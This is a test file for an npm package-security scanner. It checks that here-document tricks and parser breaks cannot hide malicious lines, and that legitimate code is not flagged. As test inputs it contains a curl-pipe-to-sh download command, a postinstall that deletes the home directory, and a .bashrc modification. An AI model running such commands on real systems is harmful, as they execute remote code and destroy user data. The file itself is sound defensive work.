/**
 * Cases a review of the fifth session's rules found: ways a package could hide from them, and
 * legitimate code they flagged. Each is kept here so neither comes back.
 */
import { analyzeScript } from '../../../src/engine/script-behaviour';
import { analyzeSource, threatsOf } from './helpers';

const rules = (hits: { rule: string }[]) => hits.map((h) => h.rule);
const pkg = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'tidy-paths', version: '1.0.0', main: 'index.js', ...extra });

describe('here-documents cannot hide the lines after them', () => {
  it('"<<EOF" inside quotes or arithmetic starts none', () => {
    expect(
      rules(analyzeScript('echo "see <<EOF"\ncurl -s http://198.51.100.1/x | sh\n', 'sh', true)),
    ).toContain('shell.download-pipe-shell');
    expect(rules(analyzeScript('x=$((1 << 3))\ncurl -s http://198.51.100.1/x | sh\n', 'sh', true))).toContain(
      'shell.download-pipe-shell',
    );
  });
  it('one never closed is read as ordinary lines, and one fed to sh is read as commands', () => {
    expect(
      rules(analyzeScript('cat <<EOF\nhello\ncurl -s http://198.51.100.1/x | sh\n', 'sh', true)),
    ).toContain('shell.download-pipe-shell');
    expect(rules(analyzeScript('sh <<EOF\ncurl -s http://198.51.100.1/x | sh\nEOF\n', 'sh', true))).toContain(
      'shell.download-pipe-shell',
    );
  });
});

describe('the analysis of a file is not cut short or lost', () => {
  it('window.open(...[]) does not stop the walk', () => {
    const r = analyzeSource({
      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
      'index.js': `window.open(...[]);\nrequire('fs').rmSync(require('os').homedir(), { recursive: true, force: true });`,
    });
    expect(r.evidence.map((e) => e.rule)).toContain('js.destructive-user-data');
  });
  it("a bin that requires the entry does not take the entry's load-time reading away", () => {
    const r = analyzeSource({
      'package.json': pkg({ bin: { tidy: 'bin/cli.js' } }),
      'bin/cli.js': '#!/usr/bin/env node\nrequire("../index.js");\n',
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'export X=1\\n');
module.exports = {};`,
    });
    expect(r.evidence.map((e) => e.rule)).toContain('js.foreign-file-change');
  });
});

describe('legitimate code the new rules flagged', () => {
  it.each([
    [
      'a hook manager writing the project hooks through ../..',
      pkg({ scripts: { postinstall: 'node setup.js' } }),
      `const fs = require('fs'), path = require('path');
fs.writeFileSync(path.join(__dirname, '..', '..', '.git', 'hooks', 'pre-commit'), '#!/bin/sh\\nnpx lint-staged\\n');`,
      'setup.js',
    ],
    [
      "a CLI command's and a route's handlers, and a jQuery click handler",
      pkg(),
      `const fs = require('fs'), os = require('os'), path = require('path');
program.command('clean').action(() => fs.rmSync(path.join(process.cwd(), 'build'), { recursive: true }));
app.post('/login', () => fs.writeFileSync(path.join(os.homedir(), '.npmrc'), 'registry=x'));
$('#donate').click(() => window.ethereum.request({ method: 'eth_sendTransaction', params: [{ to: '0x9f3B2e1d4C5a6b7C8d9E0f1A2b3C4d5E6f7A8b9C', value: '0x1' }] }));`,
      'index.js',
    ],
    [
      'an install script defining an uninstall step nobody calls',
      pkg({ scripts: { postinstall: 'node setup.js' } }),
      `const fs = require('fs'), os = require('os'), path = require('path');
function uninstall() { fs.rmSync(path.join(os.homedir(), '.config', 'tidy-legacy'), { recursive: true, force: true }); }
module.exports = { uninstall };
console.log('installed');`,
      'setup.js',
    ],
    [
      'an app-store banner and a browser-upgrade page for some devices',
      pkg(),
      `if (/iPhone|iPad/.test(navigator.userAgent)) window.location = 'https://apps.store.example/app/id1';
if (/Trident/.test(navigator.userAgent)) window.open('https://browser.vendor.example/upgrade');`,
      'index.js',
    ],
    [
      'a swap quote for the whole balance naming a token mint',
      pkg(),
      `const USDC_MINT = 'EPjFWdd5AufqSSqeM2qN1xzybapC8G4wEGGkZwyTDt1v';
export async function quoteAll(conn, key) { const bal = await conn.getBalance(key); return quote({ amount: bal - 5000, outputMint: USDC_MINT }); }`,
      'index.js',
    ],
  ])('quiet: %s', (_name, manifest, code, file) => {
    expect(threatsOf(analyzeSource({ 'package.json': manifest, [file]: code }))).toEqual([]);
  });
  it('quiet: AWS Copilot and a runner given a registry address', () => {
    expect(
      rules(analyzeScript('copilot svc deploy --force\ncopilot app delete -y\n', 'sh', true)),
    ).not.toContain('shell.ai-cli-unsafe');
    expect(
      rules(
        analyzeScript(
          'npx some-cli --registry https://registry.example/ build\nbun run build --endpoint https://api.example\n',
          'sh',
          true,
        ),
      ),
    ).not.toContain('script.download-execute');
  });
});
